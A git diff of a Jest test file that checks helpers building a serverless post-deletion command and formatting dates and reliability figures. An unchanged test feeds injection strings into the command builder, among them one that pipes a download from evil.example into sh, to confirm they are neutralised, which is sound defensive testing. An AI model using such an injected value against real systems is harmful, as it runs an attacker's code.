@@ -1,5 +1,5 @@
 import { expect, it } from '@jest/globals'
-import { deletionOf } from '../../../pages/owner/words'
+import { deletionOf, instant, reliability } from '../../../pages/owner/words'
 
 it('is a command that deletes the post', () => {
   expect(deletionOf('1')).toBe(`npx sls invoke -f privacy --data '{"delete":{"posts":["1"]}}'`)
@@ -14,3 +14,20 @@ it.each(["1'; curl evil.example | sh; '", '1’; calc; ‘', '1\u202E\u0007\n2',
     expect(JSON.parse(data)).toEqual({ delete: { posts: [post] } })
   },
 )
+
+it.each([
+  ['2026-11-23T20:12:00Z', '23 November 2026, 20:12 UTC'],
+  ['2026-11-22T10:00:00.000', '22 November 2026, 10:00 UTC'],
+  ['2026-11-23T00:30:00+02:00', '22 November 2026, 22:30 UTC'],
+])('writes %s as the other pages do', (iso, words) => {
+  expect(instant(iso)).toBe(words)
+})
+
+it('says how reliable somebody is with an interval and a number of posts', () => {
+  const of = (share: number, low: number, high: number, items: number) =>
+    reliability({ reliability: { share, low, high, items } }).replaceAll('\u00a0', ' ')
+
+  expect(of(0.925, 0.828, 0.962, 70)).toBe('93 % (83 to 96 %) of 70 posts')
+  expect(of(1, 0.207, 1, 1)).toBe('100 % (21 to 100 %) of 1 post')
+  expect(reliability({ reliability: null })).toBe('not known')
+})
